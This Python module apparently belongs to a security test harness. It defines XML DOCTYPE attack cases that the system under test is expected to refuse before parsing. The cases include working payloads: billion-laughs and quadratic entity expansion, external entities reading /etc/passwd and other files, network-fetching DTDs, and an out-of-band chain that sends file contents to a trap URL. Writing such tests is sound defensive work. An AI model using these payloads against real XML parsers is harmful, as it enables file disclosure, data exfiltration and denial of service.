"""Document type declarations: entities of every kind, external subsets, default attributes."""

from collections.abc import Callable

from simulators.attacks.attack import Attack, Family, document, rows
from simulators.attacks.attacker import ARRIVAL, Attacker
from simulators.contracts import root_name

FAMILY = Family(
    "doctype",
    "以 DOCTYPE 声明实体：读取文件、访问网络、成倍膨胀",
    "a DOCTYPE that declares entities: to read files, to reach the network, to swell",
    "任何 DOCTYPE 在解析之前即被拒收（SW106）；解析器不展开实体、不装载 DTD、不联网",
    "any DOCTYPE is refused before a parser sees it (SW106); the parser expands no entity, loads no DTD, has no network",
)

_ROOT = root_name(ARRIVAL)


def _with(subset: str, use: str = "&x;") -> Callable[[Attacker], bytes]:
    """A good document with this internal subset, the entity used in a text."""

    def make(attacker: Attacker) -> bytes:
        subset_here = subset.format(file=attacker.trap.file.as_uri(), url=attacker.trap.url("entity"), root=_ROOT)
        return _declared(attacker.good(), f"<!DOCTYPE {_ROOT} [{subset_here}]>", use)

    return make


def _alone(declaration: str) -> Callable[[Attacker], bytes]:
    """A good document behind this declaration."""

    def make(attacker: Attacker) -> bytes:
        said = declaration.format(file=attacker.trap.file.as_uri(), url=attacker.trap.url("dtd"), root=_ROOT)
        return _declared(attacker.good(), said, "")

    return make


def _declared(good: bytes, declaration: str, use: str) -> bytes:
    head, end, rest = good.partition(b"?>")
    rest = rest.replace(b"<BayCode>", b"<BayCode>" + use.encode(), 1)
    return head + end + b"\n" + declaration.encode() + rest


def laughs(levels: int, each: int) -> str:
    """Entities that name each other, so many levels of so many each."""
    rows_ = ['<!ENTITY e0 "ha">']
    rows_ += [f'<!ENTITY e{n} "{f"&e{n - 1};" * each}">' for n in range(1, levels)]
    return "".join(rows_) + f'<!ENTITY x "&e{levels - 1};">'


def _in_gb18030(attacker: Attacker) -> bytes:
    text = _with('<!ENTITY x "验">')(attacker).decode()
    return text.replace("UTF-8", "GB18030", 1).encode("gb18030")


def _behind_a_mark(attacker: Attacker) -> bytes:
    return b"\xef\xbb\xbf" + _with('<!ENTITY x "y">')(attacker)


def _behind_comments(attacker: Attacker) -> bytes:
    return _alone("<!-- <!DOCTYPE a> --><?x <!DOCTYPE a> ?>\n\n<!DOCTYPE {root}>")(attacker)


ATTACKS: tuple[Attack, ...] = rows(
    FAMILY,
    document("internal-entity", "内部实体", "an internal entity", _with('<!ENTITY x "y">'), "SW106"),
    document("billion-laughs", "十亿笑", "a billion laughs", _with(laughs(10, 10)), "SW106"),
    document("deep-laughs", "深层膨胀", "laughs, two by two", _with(laughs(60, 2)), "SW106"),
    document("quadratic", "二次膨胀", "one long entity, often", _with('<!ENTITY x "' + "x" * 50_000 + '">', "&x;" * 5000), "SW106"),
    document("recursive", "自引用实体", "entities that name each other", _with('<!ENTITY x "&y;"><!ENTITY y "&x;">'), "SW106"),
    document("file", "外部实体读文件", "a file by an external entity", _with('<!ENTITY x SYSTEM "{file}">'), "SW106"),
    document("passwd", "读取 /etc/passwd", "the list of accounts", _with('<!ENTITY x SYSTEM "file:///etc/passwd">'), "SW106"),
    document("device", "读取永无尽头的设备", "a file without end", _with('<!ENTITY x SYSTEM "file:///dev/zero">'), "SW106"),
    document("http", "外部实体访问网络", "an address by an external entity", _with('<!ENTITY x SYSTEM "{url}">'), "SW106"),
    document("public", "PUBLIC 外部实体", "a public identifier", _with('<!ENTITY x PUBLIC "-//A//B" "{url}">'), "SW106"),
    document("parameter", "参数实体访问网络", "a parameter entity", _with('<!ENTITY % p SYSTEM "{url}"> %p;', ""), "SW106"),
    document("parameter-file", "参数实体读文件", "a parameter entity that reads a file", _with('<!ENTITY % p SYSTEM "{file}"> %p;', ""), "SW106"),
    document("out-of-band", "带外传出文件内容", "a file carried out by an address", _with('<!ENTITY % f SYSTEM "{file}"><!ENTITY % e "<!ENTITY &#37; s SYSTEM \'{url}?%f;\'>">%e;%s;', ""), "SW106"),
    document("parameter-laughs", "参数实体膨胀", "parameter entities that swell", _with('<!ENTITY % a "ha"><!ENTITY % b "%a;%a;%a;"><!ENTITY x "%b;%b;">'), "SW106"),
    document("external-subset", "外部 DTD", "an external DTD", _alone('<!DOCTYPE {root} SYSTEM "{url}">'), "SW106"),
    document("external-subset-file", "外部 DTD 读文件", "an external DTD that is a file", _alone('<!DOCTYPE {root} SYSTEM "{file}">'), "SW106"),
    document("both-subsets", "内外 DTD 并用", "both subsets", _alone('<!DOCTYPE {root} SYSTEM "{url}" [<!ENTITY x "y">]>'), "SW106"),
    document("default-attribute", "默认属性", "an attribute by default", _with('<!ATTLIST {root} a CDATA "b">', ""), "SW106"),
    document("default-namespace", "默认命名空间", "a namespace by default", _with('<!ATTLIST BayCode xmlns CDATA "urn:x">', ""), "SW106"),
    document("id-attribute", "声明 ID 属性", "an attribute made an ID", _with("<!ATTLIST Body EntryId ID #IMPLIED>", ""), "SW106"),
    document("unparsed", "未解析实体与记法", "an unparsed entity and its notation", _with('<!NOTATION n SYSTEM "{url}"><!ENTITY x SYSTEM "{url}" NDATA n>', ""), "SW106"),
    document("conditional", "条件节", "a conditional section", _with('<!ENTITY % c "INCLUDE"><![%c;[<!ENTITY x "y">]]>', ""), "SW106"),
    document("empty", "空 DOCTYPE", "an empty DOCTYPE", _alone("<!DOCTYPE {root}>"), "SW106"),
    document("behind-comments", "注释与指令之后", "behind comments and instructions", _behind_comments, "SW106"),
    document("behind-a-mark", "字节序标记之后", "behind a byte order mark", _behind_a_mark, "SW106"),
    document("in-gb18030", "GB18030 编码", "in GB18030", _in_gb18030, "SW106"),
    document("never-closed", "不闭合", "never closed", lambda a: b'<!DOCTYPE a [<!ENTITY x "y">' + b"<!ENTITY z 'z'>" * 5000, "SW106"),
    document("small-letters", "小写", "in small letters", _alone("<!doctype {root}>"), "SW102"),
    document("in-the-body", "正文中", "within the body", lambda a: a.good().replace(b"<BayCode>", b"<!DOCTYPE a><BayCode>"), "SW102", "SW106"),
    document("undeclared", "未声明的实体", "an entity nobody declared", lambda a: a.good().replace(b"<BayCode>", b"<BayCode>&x;"), "SW102"),
)  # fmt: skip
